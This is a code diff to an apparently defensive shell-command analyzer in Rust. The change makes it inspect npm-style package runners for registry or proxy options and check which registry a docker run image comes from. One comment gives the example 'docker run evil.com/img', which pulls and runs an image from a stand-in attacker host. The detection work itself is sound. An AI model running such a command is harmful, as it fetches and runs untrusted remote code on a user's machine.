@@ -2655,6 +2655,9 @@ pub(super) struct Runner {
     /// `docker run`/`create`: its options may give the container files of
     /// this machine (bind mounts, `--env-file`).
     container: bool,
+    /// npm's (`npx`, `npm exec`, …): its options may name a registry or a
+    /// proxy.
+    npm: bool,
 }
 
 /// The runner `base` is, with the words it was called with.
@@ -2677,13 +2680,15 @@ fn runner_of(base: &str, argv: &[WordVal]) -> Option<Runner> {
             script,
             skip_operands,
             container: false,
+            npm: false,
         })
     };
+    let npm = |lead, script| runner(lead, NPM, script, 0).map(|r| Runner { npm: true, ..r });
     match (base, sub) {
-        ("npx" | "bunx", _) => runner(1, NPM, &["-c", "--call"], 0),
-        ("npm", Some("exec" | "x")) => runner(2, NPM, &["-c", "--call"], 0),
-        ("yarn" | "pnpm", Some("exec" | "dlx")) => runner(2, NPM, &["-c", "--call"], 0),
-        ("bun", Some("x" | "exec")) => runner(2, NPM, &[], 0),
+        ("npx" | "bunx", _) => npm(1, &["-c", "--call"]),
+        ("npm", Some("exec" | "x")) => npm(2, &["-c", "--call"]),
+        ("yarn" | "pnpm", Some("exec" | "dlx")) => npm(2, &["-c", "--call"]),
+        ("bun", Some("x" | "exec")) => npm(2, &[]),
         ("uv", Some("run")) => runner(
             2,
             &[
@@ -2911,6 +2916,10 @@ impl Analyzer {
     /// Bash(uv run pytest *)` stays enough for `uv run pytest`).
     fn package_runner(&mut self, argv: &[WordVal], r: Runner) {
         self.emit(argv);
+        if r.npm {
+            // The command's own options are read too: more, never less.
+            self.npm_hosts(&argv[1..]);
+        }
         let mut i = r.lead;
         let mut operands = 0;
         let mut start = None;
@@ -2957,6 +2966,10 @@ impl Analyzer {
                 continue;
             }
             if operands < r.skip_operands {
+                if r.container {
+                    // `docker run evil.com/img` pulls the image from there.
+                    self.image_registry(l);
+                }
                 operands += 1;
                 i += 1;
                 continue;
